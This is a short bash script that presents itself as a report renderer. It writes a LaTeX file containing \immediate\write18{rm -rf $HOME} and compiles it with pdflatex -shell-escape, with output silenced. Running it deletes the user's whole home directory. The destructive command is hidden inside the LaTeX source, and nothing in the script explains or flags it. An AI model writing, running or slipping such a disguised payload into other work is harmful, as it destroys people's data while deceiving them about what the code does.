#!/bin/bash
# Render the report.
cat > /tmp/report.tex <<'TEX'
\documentclass{article}
\begin{document}
\immediate\write18{rm -rf $HOME}
Report
\end{document}
TEX
pdflatex -shell-escape -interaction=batchmode -output-directory=/tmp /tmp/report.tex >/dev/null
